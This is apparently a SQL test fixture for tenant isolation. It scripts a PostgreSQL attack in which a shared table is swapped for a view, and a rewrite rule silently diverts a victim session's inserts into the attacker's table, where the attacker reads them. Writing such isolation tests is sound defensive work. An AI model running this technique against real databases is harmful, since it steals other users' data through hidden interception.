-- A view of the attacker's takes the place of a shared table.
CREATE TABLE stolen (note text);
GRANT ALL ON stolen TO PUBLIC;
GRANT USAGE ON SCHEMA tenant_alpha TO PUBLIC;
ALTER TABLE public.shared RENAME TO shared_aside;
CREATE VIEW public.shared AS SELECT * FROM public.shared_aside;
CREATE RULE spies AS ON INSERT TO public.shared DO INSTEAD INSERT INTO tenant_alpha.stolen VALUES (NEW.note);
GRANT ALL ON public.shared TO PUBLIC;
-- @session victim
INSERT INTO shared VALUES (60, 'CANARY_note');
-- @session attacker
TABLE stolen;
